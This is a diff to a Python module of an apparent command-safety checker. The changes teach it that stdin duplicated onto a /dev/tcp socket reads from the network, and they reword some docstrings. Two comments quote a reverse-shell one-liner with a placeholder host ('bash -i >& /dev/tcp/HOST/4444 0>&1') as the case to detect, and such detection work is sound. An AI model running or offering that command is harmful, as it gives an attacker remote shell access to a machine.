@@ -1,4 +1,4 @@
-"""Redirections: what a command reads instead of its input, and the files that its output goes to."""
+"""Redirections: where a command's input comes from and which files its output goes to."""
 
 import re
 
@@ -7,16 +7,17 @@ from cli_guard.commands.effects.places import PathClass, classify_path
 from cli_guard.commands.expand.fields import Field, literal, stream_of
 from cli_guard.commands.machine import Machine
 from cli_guard.commands.parse.tree import Redirect
-from cli_guard.commands.scope import NOTHING, Stream
+from cli_guard.commands.scope import NOTHING, REMOTE, Stream
 
 DESCRIPTOR = re.compile(r"(\d*)-?")
 STANDARD = ("", "0", "1", "2", "&")
 OUTPUT = ("", "1", "&")
+FROM_NETWORK = Stream(None, frozenset((REMOTE,)))
 Sinks = list[tuple[str, Field]]
 
 
 def apply_redirects(shell: Machine, redirects: tuple[Redirect, ...], stdin: Stream) -> tuple[Stream, Sinks]:
-    """The input of a command, and where its output goes: a descriptor with its file each."""
+    """Return the input of a command and the target file of each descriptor."""
     sinks: Sinks = []
     for redirect in redirects:
         target = shell.expander().one(redirect.target)
@@ -24,12 +25,18 @@ def apply_redirects(shell: Machine, redirects: tuple[Redirect, ...], stdin: Stre
             stdin = stream_of(target)
         elif redirect.operator in (">&", "<&") and (number := DESCRIPTOR.fullmatch(target.text or "x")):
             opened = shell.scope.descriptors.get(number[1])
+            if redirect.descriptor in ("0", "") and number[1] in ("1", "2") and is_connected(shell, sinks):
+                # `0>&1` behind `>& /dev/tcp/...`: the input comes from there, not from a pipe.
+                stdin = Stream(None, frozenset((REMOTE,)))
             if opened and redirect.operator == ">&":
                 sinks.append((redirect.descriptor, literal(opened, redirect.span)))
             elif redirect.operator == ">&" and redirect.descriptor in OUTPUT and number[1] == "2":
                 sinks.append(("", literal("/dev/stderr", redirect.span)))
             elif opened:
                 stdin = read_path(shell, literal(opened, redirect.span), redirect.span)
+            elif redirect.descriptor == "0" and number[1] in ("1", "2") and is_connected(shell, sinks):
+                # `true | bash -i >& /dev/tcp/HOST/4444 0>&1`: the input is the connection, whatever the pipe holds.
+                stdin = FROM_NETWORK
         elif redirect.operator == "<" and target.stream is not None:
             stdin = target.stream
         else:
@@ -43,7 +50,7 @@ def apply_redirects(shell: Machine, redirects: tuple[Redirect, ...], stdin: Stre
 
 
 def is_connected(shell: Machine, sinks: Sinks) -> bool:
-    """Does the output go to a connection? Then, most of the time, the input comes from there."""
+    """Return whether the output goes to a connection; usually the input then comes from there too."""
     return any(
         classify_path(path_of(shell, target)) is PathClass.SOCKET
         for _, target in sinks
@@ -52,7 +59,7 @@ def is_connected(shell: Machine, sinks: Sinks) -> bool:
 
 
 def write_sinks(shell: Machine, output: Stream, sinks: Sinks) -> Stream:
-    """The output goes to files: what is left of it for the pipe."""
+    """Write the output to its files; return what is left for the pipe."""
     for descriptor, target in sinks:
         carried = output if descriptor in OUTPUT else NOTHING
         if target.script is not None:
